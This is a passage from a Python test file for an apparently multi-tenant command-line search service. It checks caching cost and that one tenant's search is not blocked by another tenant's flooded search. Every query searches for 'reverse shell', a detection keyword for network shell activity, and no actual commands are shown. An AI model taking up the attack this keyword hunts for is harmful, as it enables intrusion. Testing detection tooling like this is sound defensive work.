        assert query.search_answer("team-f", "reverse shell", limit=5)["incomplete"] is None
        cached_cpu = time.process_time() - started
        # Deriving all 20,000 cost 27 s here before; now the budget's 10,000 at about 0.16 ms each.
        assert first_cpu < cached_cpu + 4.0, (first_cpu, cached_cpu)


def test_one_tenants_search_does_not_wait_for_anothers(tmp_path: Path) -> None:
    """All searches shared one lock held for the whole ranking: a tenant's search sent 2 s after a flooded
    tenant's waited minutes for it."""
    path = exported(tmp_path / "clickhouse", stored_batch("1", "team-f", flood(MAX_DERIVED_PER_SEARCH)),
                    stored_batch("2", "team-g", [SINGLES[0]]),
                    stored_batch("3", "team-h", flood(MAX_DERIVED_PER_SEARCH, start=MAX_DERIVED_PER_SEARCH)))
    with query_service(path) as query:
        query.search("team-g", "reverse shell")  # the small tenant's patterns are cached: its search is quick
        started = time.monotonic()
        query.search("team-h", "reverse shell")  # as long as team-f's will take (other lines, so none cached)
        flooded_seconds = time.monotonic() - started
        finished: dict[str, float] = {}

        def flooded() -> None:
            query.search("team-f", "reverse shell")
            finished["team-f"] = time.monotonic()

        worker = threading.Thread(target=flooded)
        worker.start()
        try:
            # The flooded tenant's search is ranking by now: reading its patterns takes a fraction of this.
            time.sleep(0.3 * flooded_seconds)
            assert query.search("team-g", "reverse shell")[0]["command_line"] == SINGLES[0].command
            answered = time.monotonic()
        finally:
            worker.join()
        assert answered < finished["team-f"], "the small tenant's search waited for the flooded tenant's"
